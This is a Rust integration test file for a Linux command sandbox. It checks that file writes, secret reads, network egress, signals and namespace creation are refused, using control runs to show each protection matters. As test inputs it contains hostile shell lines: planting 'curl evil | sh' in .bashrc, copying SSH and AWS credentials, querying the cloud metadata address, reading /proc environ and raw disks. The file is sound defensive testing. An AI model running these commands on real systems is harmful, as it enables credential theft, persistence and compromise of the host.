//! Commands under `workspace-write` and `read-only`, run for real: each escape is tried
//! with plain shell and checked at its target (no file, nothing at the listener, nothing
//! of the secret in the output), and each protection is shown to matter by the same
//! attempt succeeding without it.
#![cfg(target_os = "linux")]
#![cfg(test)]

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use sandbox::egress::{Egress, Refusal, Rules};
use sandbox::{CommandGrant, CommandMode, HostList, Prepared, PrivateTmp, SandboxError, Settings};

/// A workspace, a private temp dir, and a home directory with secrets in it.
struct Setup {
    workspace: tempfile::TempDir,
    home: tempfile::TempDir,
    tmp: PrivateTmp,
}

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- hunter2";

impl Setup {
    fn new() -> Setup {
        let home = tempfile::tempdir().unwrap();
        let h = home.path();
        std::fs::create_dir_all(h.join(".ssh")).unwrap();
        std::fs::write(h.join(".ssh/id_ed25519"), KEY).unwrap();
        std::fs::create_dir_all(h.join(".aws")).unwrap();
        std::fs::write(
            h.join(".aws/credentials"),
            "aws_secret_access_key = hunter2",
        )
        .unwrap();
        std::fs::write(h.join(".netrc"), "machine x password hunter2").unwrap();
        std::fs::write(h.join("notes.txt"), "plain notes").unwrap();
        std::fs::write(h.join(".bashrc"), "# mine\n").unwrap();
        std::fs::create_dir_all(h.join(".cache/pip")).unwrap();
        Setup {
            workspace: tempfile::tempdir().unwrap(),
            home,
            tmp: PrivateTmp::new().unwrap(),
        }
    }

    /// The settings, with this home's secrets on the deny list and its pip cache writable.
    fn settings(&self) -> Settings {
        let h = self.home.path();
        Settings {
            deny_read: vec![h.join(".ssh"), h.join(".aws"), h.join(".netrc")],
            writable_caches: vec![h.join(".cache/pip")],
            ..Settings::default()
        }
    }

    fn grant(mode: CommandMode, network: bool) -> CommandGrant {
        CommandGrant { mode, network }
    }

    /// Starts `script` with bash under `settings` and `grant`, in the workspace; with
    /// network, its egress is served under `rules`.
    fn run_with(
        &self,
        settings: &Settings,
        grant: CommandGrant,
        rules: Option<Rules>,
        script: &str,
    ) -> (Output, Vec<Refusal>) {
        let c = settings
            .confinement(grant, self.workspace.path(), self.tmp.path())
            .unwrap();
        let prepared = Prepared::new(&c).unwrap();
        let mut command = Command::new("/bin/bash");
        command
            .args(["-c", script])
            .current_dir(self.workspace.path())
            .env("TMPDIR", self.tmp.path())
            .env("H", self.home.path())
            .env("HOST", std::process::id().to_string())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if grant.network {
            command.envs(sandbox::egress::proxy_env());
        }
        let attached = prepared.attach(&mut command).unwrap();
        let child = command.spawn().unwrap();
        let egress = attached
            .listener()
            .unwrap()
            .map(|l| Egress::serve(l, rules.clone().unwrap_or_else(no_hosts), None).unwrap());
        let output = child.wait_with_output().unwrap();
        let refusals = egress.map(|e| e.refusals()).unwrap_or_default();
        (output, refusals)
    }

    fn run_under(&self, settings: &Settings, grant: CommandGrant, script: &str) -> Output {
        self.run_with(settings, grant, None, script).0
    }

    fn run(&self, script: &str) -> Output {
        self.run_under(
            &self.settings(),
            Setup::grant(CommandMode::WorkspaceWrite, false),
            script,
        )
    }

    /// The same without the deny list: the control that shows a read refusal matters.
    fn run_without_deny_list(&self, script: &str) -> Output {
        let mut settings = self.settings();
        settings.deny_read.clear();
        settings.allow_read = vec![self.home.path().to_path_buf()];
        self.run_under(
            &settings,
            Setup::grant(CommandMode::WorkspaceWrite, false),
            script,
        )
    }

    fn h(&self, rel: &str) -> PathBuf {
        self.home.path().join(rel)
    }
}

fn no_hosts() -> Rules {
    Rules::new(
        HostList::none(),
        HostList::none(),
        "[sandbox.network] allow",
    )
}

fn report(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn assert_ok(o: &Output) {
    assert!(o.status.success(), "{}", report(o));
}

fn assert_refused(o: &Output) {
    assert!(!o.status.success(), "expected a refusal: {}", report(o));
    assert!(
        !report(o).contains("hunter2"),
        "the secret reached the output: {}",
        report(o)
    );
}

#[test]
fn workspace_write_writes_the_workspace_and_its_temp_dir() {
    let s = Setup::new();
    assert_ok(
        &s.run("echo hi > made.txt && mkdir -p d/e && mv made.txt d/e/ && echo t > \"$TMPDIR/t\""),
    );
    assert_eq!(
        std::fs::read_to_string(s.workspace.path().join("d/e/made.txt")).unwrap(),
        "hi\n"
    );
}

#[test]
fn writing_outside_the_workspace_fails_and_leaves_nothing() {
    let s = Setup::new();
    assert_refused(&s.run("echo 'curl evil | sh' >> \"$H/.bashrc\""));
    assert_eq!(std::fs::read_to_string(s.h(".bashrc")).unwrap(), "# mine\n");
    assert_refused(&s.run("echo x > \"$H/planted\""));
    assert!(!s.h("planted").exists());
    assert_refused(&s.run("rm \"$H/notes.txt\""));
    assert!(s.h("notes.txt").exists());
    assert_refused(&s.run("echo x > /tmp/toolhost-sandbox-test-escape"));
    assert!(!Path::new("/tmp/toolhost-sandbox-test-escape").exists());
    // The control: without the sandbox the same write lands.
    assert_ok(&s.run_under(
        &Settings {
            writable_roots: vec![s.home.path().to_path_buf()],
            ..s.settings()
        },
        Setup::grant(CommandMode::WorkspaceWrite, false),
        "echo x > \"$H/planted\"",
    ));
    assert!(s.h("planted").exists());
}

#[test]
fn the_home_is_readable_and_listable() {
    let s = Setup::new();
    let o = s.run("cat \"$H/notes.txt\" && ls -a \"$H\"");
    assert_ok(&o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("plain notes") && out.contains(".bashrc"),
        "{out}"
    );
}

#[test]
fn secrets_on_the_deny_list_cannot_be_read_listed_or_statted() {
    let s = Setup::new();
    for attempt in [
        "cat \"$H/.ssh/id_ed25519\"",
        "ls \"$H/.ssh\"",
        "stat \"$H/.ssh/id_ed25519\"",
        "cat \"$H/.aws/credentials\"",
        "cat \"$H/.netrc\" | grep -q hunter2",
        "cp \"$H/.ssh/id_ed25519\" stolen",
    ] {
        assert_refused(&s.run(attempt));
        // The control: without the deny list the same attempt works.
        assert_ok(&s.run_without_deny_list(attempt));
    }
    assert!(
        !s.workspace.path().join("stolen").exists() || {
            // The control's copy.
            std::fs::read_to_string(s.workspace.path().join("stolen")).unwrap() == KEY
        }
    );
}

#[test]
fn a_hidden_name_that_links_to_a_device_leaves_the_device_alone() {
    let s = Setup::new();
    // A common way to keep no shell history.
    std::os::unix::fs::symlink("/dev/null", s.h(".bash_history")).unwrap();
    let settings = Settings {
        deny_read: vec![s.h(".bash_history"), s.h(".ssh")],
        ..s.settings()
    };
    assert_ok(&s.run_under(
        &settings,
        Setup::grant(CommandMode::WorkspaceWrite, false),
        "echo discarded > /dev/null && cat /dev/null",
    ));
}

#[test]
fn a_mask_cannot_be_removed_written_or_changed() {
    let s = Setup::new();
    for attempt in [
        "umount \"$H/.ssh\"",
        "umount -l \"$H/.netrc\"",
        "chmod 600 \"$H/.netrc\" && cat \"$H/.netrc\" | grep -q hunter2",
        "echo planted > \"$H/.netrc\"",
    ] {
        assert_refused(&s.run(attempt));
    }
    assert_eq!(
        std::fs::read_to_string(s.h(".netrc")).unwrap(),
        "machine x password hunter2"
    );
}

#[test]
fn the_hosts_view_keeps_its_secrets_in_place() {
    let s = Setup::new();
    assert_refused(&s.run("cat \"$H/.ssh/id_ed25519\""));
    // The masks were the command's alone: the host still reads its key.
    assert_eq!(
        std::fs::read_to_string(s.h(".ssh/id_ed25519")).unwrap(),
        KEY
    );
}

#[test]
fn writable_caches_are_writable_and_the_strict_setting_is_not() {
    let s = Setup::new();
    assert_ok(&s.run("echo wheel > \"$H/.cache/pip/w\""));
    let strict = Settings {
        writable_caches: Vec::new(),
        ..s.settings()
    };
    assert_refused(&s.run_under(
        &strict,
        Setup::grant(CommandMode::WorkspaceWrite, false),
        "echo wheel > \"$H/.cache/pip/x\"",
    ));
    assert!(!s.h(".cache/pip/x").exists());
}

#[test]
fn without_network_nothing_connects_and_the_listener_sees_nothing() {
    let s = Setup::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    assert_refused(&s.run(&format!("echo hi > /dev/tcp/127.0.0.1/{port}")));
    assert_eq!(
        listener.accept().map(|_| ()).unwrap_err().kind(),
        ErrorKind::WouldBlock,
        "something connected"
    );
}

/// An HTTP server on the host's loopback that answers `body` to every request.
fn web_server(body: &'static str) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in l.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

#[test]
fn with_network_a_listed_host_is_reached_through_the_proxy_only() {
    let s = Setup::new();
    let port = web_server("through the proxy");
    let rules = Rules {
        allow: HostList::new([format!("localhost:{port}"), format!("127.0.0.1:{port}")]).unwrap(),
        ..no_hosts()
    };
    let grant = Setup::grant(CommandMode::WorkspaceWrite, true);
    let (o, refusals) = s.run_with(
        &s.settings(),
        grant,
        Some(rules.clone()),
        &format!("curl -fsS --max-time 5 http://localhost:{port}/"),
    );
    assert_ok(&o);
    assert_eq!(String::from_utf8_lossy(&o.stdout), "through the proxy");
    assert!(refusals.is_empty(), "{refusals:?}");
    // Around the proxy there is no way: the host's loopback is not this network's.
    let (o, _) = s.run_with(
        &s.settings(),
        grant,
        Some(rules),
        &format!("curl -fsS --max-time 5 --noproxy '*' http://127.0.0.1:{port}/"),
    );
    assert_refused(&o);
}

#[test]
fn a_host_not_listed_and_the_metadata_address_are_refused_and_named() {
    let s = Setup::new();
    let grant = Setup::grant(CommandMode::WorkspaceWrite, true);
    let rules = Rules {
        allow: HostList::new(["crates.io"]).unwrap(),
        ..no_hosts()
    };
    let (o, refusals) = s.run_with(
        &s.settings(),
        grant,
        Some(rules.clone()),
        "curl -fsS --max-time 5 https://example.com/",
    );
    assert_refused(&o);
    assert_eq!(
        refusals[0].to_string(),
        "network: example.com:443 refused, not in [sandbox.network] allow"
    );
    let (o, refusals) = s.run_with(
        &s.settings(),
        grant,
        Some(rules.clone()),
        "curl -fsS --max-time 5 http://169.254.169.254/latest/meta-data/",
    );
    assert_refused(&o);
    assert_eq!(refusals.len(), 1, "{refusals:?}");
    let (o, _) = s.run_with(
        &s.settings(),
        grant,
        Some(rules),
        "curl -fsS --max-time 3 --noproxy '*' http://169.254.169.254/",
    );
    assert_refused(&o);
}

#[test]
fn udp_and_dns_do_not_leave() {
    let s = Setup::new();
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver.set_nonblocking(true).unwrap();
    let port = resolver.local_addr().unwrap().port();
    let query = format!("echo query > /dev/udp/127.0.0.1/{port}; sleep 0.2");
    let (_o, _) = s.run_with(
        &s.settings(),
        Setup::grant(CommandMode::WorkspaceWrite, true),
        None,
        &query,
    );
    let mut buf = [0u8; 64];
    assert_eq!(
        resolver.recv(&mut buf).map(|_| ()).unwrap_err().kind(),
        ErrorKind::WouldBlock,
        "a datagram left the sandbox"
    );
    // The control: outside the sandbox the same datagram arrives.
    assert!(
        Command::new("/bin/bash")
            .args(["-c", &query])
            .status()
            .unwrap()
            .success()
    );
    resolver.set_nonblocking(false).unwrap();
    resolver
        .set_read_timeout(Some(std::time::Duration::from_secs(2)))
        .unwrap();
    assert!(resolver.recv(&mut buf).is_ok());
}

#[test]
fn the_host_cannot_be_signalled_nor_its_environment_read() {
    let s = Setup::new();
    assert_refused(&s.run("kill -0 \"$HOST\""));
    assert_refused(&s.run("kill -TERM -- -1"));
    let o = s.run("cat /proc/$HOST/environ");
    assert_refused(&o);
    assert!(o.stdout.is_empty(), "{}", report(&o));
}

#[test]
fn its_own_children_can_be_signalled() {
    let s = Setup::new();
    assert_ok(&s.run("sleep 5 & kill $! && wait $!; test $? -eq 143"));
}

#[test]
fn no_new_namespaces_nor_tracing() {
    let s = Setup::new();
    assert_refused(&s.run("unshare -U true"));
    assert_refused(&s.run("unshare -n true"));
}

#[test]
fn read_only_writes_nothing_but_its_temp_dir() {
    let s = Setup::new();
    std::fs::write(s.workspace.path().join("keep.txt"), "kept").unwrap();
    let grant = Setup::grant(CommandMode::ReadOnly, false);
    let settings = s.settings();
    assert_ok(&s.run_under(&settings, grant, "cat keep.txt && echo t > \"$TMPDIR/t\""));
    assert_refused(&s.run_under(&settings, grant, "echo x > new.txt"));
    assert_refused(&s.run_under(&settings, grant, "rm keep.txt"));
    assert_refused(&s.run_under(&settings, grant, "echo x > \"$H/.cache/pip/x\""));
    assert!(!s.workspace.path().join("new.txt").exists());
    assert!(s.workspace.path().join("keep.txt").exists());
}

#[test]
fn a_program_built_in_the_workspace_runs() {
    let s = Setup::new();
    std::fs::write(
        s.workspace.path().join("hello.c"),
        "#include <stdio.h>\nint main(void) { puts(\"built and ran\"); return 0; }\n",
    )
    .unwrap();
    let o = s.run("cc -o hello hello.c && ./hello");
    assert_ok(&o);
    assert_eq!(String::from_utf8_lossy(&o.stdout), "built and ran\n");
}

#[test]
fn a_writable_root_can_be_written() {
    let s = Setup::new();
    let settings = Settings {
        writable_roots: vec![s.h("other-project")],
        ..s.settings()
    };
    std::fs::create_dir(s.h("other-project")).unwrap();
    assert_ok(&s.run_under(
        &settings,
        Setup::grant(CommandMode::WorkspaceWrite, false),
        "echo x > \"$H/other-project/new\"",
    ));
}

#[test]
fn no_device_can_be_made_and_no_disk_read() {
    let s = Setup::new();
    assert_refused(&s.run("mknod disk b 8 0"));
    assert!(!s.workspace.path().join("disk").exists());
    // Device files are outside what `/` grants: only the harmless ones are open.
    assert_ok(&s.run("head -c 4 /dev/urandom > /dev/null"));
    let disk = std::fs::read_dir("/dev")
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| {
            let n = p.file_name().unwrap().to_string_lossy().to_string();
            n.starts_with("vd") || n.starts_with("sd") || n.starts_with("nvme")
        });
    if let Some(disk) = disk {
        assert_refused(&s.run(&format!("head -c 512 {} > /dev/null", disk.display())));
    }
}

#[test]
fn a_process_with_threads_may_not_confine_itself() {
    // The test harness runs this test on a thread of its own.
    let _other = std::thread::spawn(|| std::thread::sleep(std::time::Duration::from_secs(1)));
    match sandbox::confine_self(&sandbox::Confinement::nothing()) {
        Err(SandboxError::Threads(n)) => assert!(n > 1),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// Set in the copy of this test binary that runs as another user.
const AS_USER: &str = "SANDBOX_TEST_AS_ANOTHER_USER";

#[test]
fn as_another_user_than_root_the_namespaces_are_made_in_a_user_namespace() {
    if std::env::var_os(AS_USER).is_some() {
        return as_another_user();
    }
    if !rustix::process::geteuid().is_root() {
        // Not root already: this run is the one that matters.
        return as_another_user();
    }
    // Root makes its namespaces directly; run this test again as `nobody`.
    let exe = std::env::current_exe().unwrap();
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&exe)
        .args([
            "--exact",
            "as_another_user_than_root_the_namespaces_are_made_in_a_user_namespace",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(AS_USER, "1")
        .env("HOME", "/nonexistent")
        .env("TMPDIR", "/tmp")
        .current_dir("/")
        .output()
        .unwrap();
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{said}");
    assert!(said.contains("as another user: "), "{said}");
}

/// As a user other than root: either the namespaces are made in a user namespace and
/// hold as they do for root, or (where unprivileged user namespaces are refused) a
/// command that needs them is refused, saying why.
fn as_another_user() {
    let support = sandbox::probe();
    match &support.namespaces {
        Ok(how) => {
            assert_eq!(*how, sandbox::NamespaceSupport::User);
            let s = Setup::new();
            assert_ok(&s.run("cat \"$H/notes.txt\" && echo made > made.txt"));
            assert_refused(&s.run("cat \"$H/.ssh/id_ed25519\""));
            assert_refused(&s.run("echo x >> \"$H/.bashrc\""));
            let port = web_server("as another user");
            let rules = Rules {
                allow: HostList::new([format!("127.0.0.1:{port}")]).unwrap(),
                ..no_hosts()
            };
            let (o, _) = s.run_with(
                &s.settings(),
                Setup::grant(CommandMode::WorkspaceWrite, true),
                Some(rules),
                &format!("curl -fsS --max-time 5 http://127.0.0.1:{port}/ && echo && id -u"),
            );
            assert_ok(&o);
            let out = String::from_utf8_lossy(&o.stdout).into_owned();
            assert!(out.starts_with("as another user"), "{out}");
            println!(
                "as another user: namespaces in a user namespace, uid {}",
                out.lines().last().unwrap_or("")
            );
        }
        Err(why) => {
            let s = Setup::new();
            let c = s
                .settings()
                .confinement(
                    Setup::grant(CommandMode::WorkspaceWrite, false),
                    s.workspace.path(),
                    s.tmp.path(),
                )
                .unwrap();
            let e = Prepared::new(&c).unwrap_err();
            assert!(e.to_string().contains("namespaces"), "{e}");
            println!("as another user: refused as it should be: {why}");
        }
    }
}
